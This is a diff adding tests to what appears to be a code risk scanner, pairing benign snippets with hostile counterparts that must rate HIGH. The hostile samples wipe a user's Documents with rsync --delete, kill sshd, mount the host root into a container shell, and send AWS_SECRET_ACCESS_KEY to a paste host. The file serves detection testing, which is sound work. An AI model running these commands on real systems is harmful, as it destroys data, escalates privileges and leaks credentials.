@@ -829,3 +829,83 @@ def test_model_weights_named_pth_and_the_projects_own_hooks_are_not_start_up_hoo
     """
     assessment = assess(suite, code)
     assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+LOOK_ALIKES_OF_THE_SECOND_SET = {
+    "mirror_of_the_project_onto_a_drive_the_user_names": """
+        import subprocess, sys
+        target = sys.argv[1] if len(sys.argv) > 1 else "/mnt/backup/site"
+        subprocess.run(["rsync", "-a", "--delete", "--exclude", "build", "src/", target], check=True)
+    """,
+    "worker_stopped_through_its_pid_file": """
+        import os, signal
+        with open("var/worker.pid") as fh:
+            os.kill(int(fh.read()), signal.SIGTERM)
+    """,
+    "project_services_started_and_stopped": """
+        import subprocess
+        subprocess.run(["docker", "compose", "up", "-d", "--build"], check=True)
+        subprocess.run(["docker", "compose", "down", "--remove-orphans"], check=True)
+    """,
+    "kill_replaced_by_a_mock_in_a_test": """
+        import os, signal
+        from unittest.mock import patch
+
+        def shutdown(pid):
+            os.kill(pid, signal.SIGKILL)
+
+        @patch("os.kill")
+        def test_shutdown(kill):
+            shutdown(4242)
+            kill.assert_called_once()
+    """,
+    "token_in_the_authorization_header": """
+        import json, os, sys, urllib.request
+        body = json.dumps({"text": open(sys.argv[1]).read()}).encode()
+        req = urllib.request.Request("https://api.example.com/notes", data=body,
+                                     headers={"Authorization": "Bearer " + os.environ["NOTES_TOKEN"]})
+        urllib.request.urlopen(req)
+    """,
+    "password_in_basic_auth_of_a_put": """
+        import os, sys, requests
+        from requests.auth import HTTPBasicAuth
+        with open(sys.argv[1], "rb") as fh:
+            requests.put("https://dav.example.com/f", data=fh, auth=HTTPBasicAuth("me", os.environ["DAV_PASSWORD"]))
+    """,
+}
+
+
+@pytest.mark.parametrize("code", LOOK_ALIKES_OF_THE_SECOND_SET.values(), ids=LOOK_ALIKES_OF_THE_SECOND_SET.keys())
+def test_backups_own_pid_files_project_services_mocks_and_tokens_in_headers_are_not_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+THEIR_HOSTILE_COUNTERPARTS = {
+    "empty_folder_mirrored_onto_documents": """
+        import subprocess, tempfile
+        subprocess.run(["rsync", "-a", "--delete", tempfile.mkdtemp() + "/", "/home/ann/Documents/"])
+    """,
+    "service_stopped_through_its_system_pid_file": """
+        import os, signal
+        os.kill(int(open("/run/sshd.pid").read()), signal.SIGKILL)
+    """,
+    "host_mounted_into_a_container": """
+        import subprocess
+        subprocess.run(["docker", "run", "--rm", "-v", "/:/host", "alpine", "chroot", "/host", "sh"])
+    """,
+    "compose_file_elsewhere_with_privileges": """
+        import subprocess
+        subprocess.run(["docker", "compose", "-f", "/tmp/x/compose.yml", "up", "-d"])
+    """,
+    "token_in_the_body": """
+        import os, requests
+        requests.put("https://paste.example.net/x", data=os.environ["AWS_SECRET_ACCESS_KEY"])
+    """,
+}
+
+
+@pytest.mark.parametrize("code", THEIR_HOSTILE_COUNTERPARTS.values(), ids=THEIR_HOSTILE_COUNTERPARTS.keys())
+def test_their_hostile_counterparts_stay_at_least_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
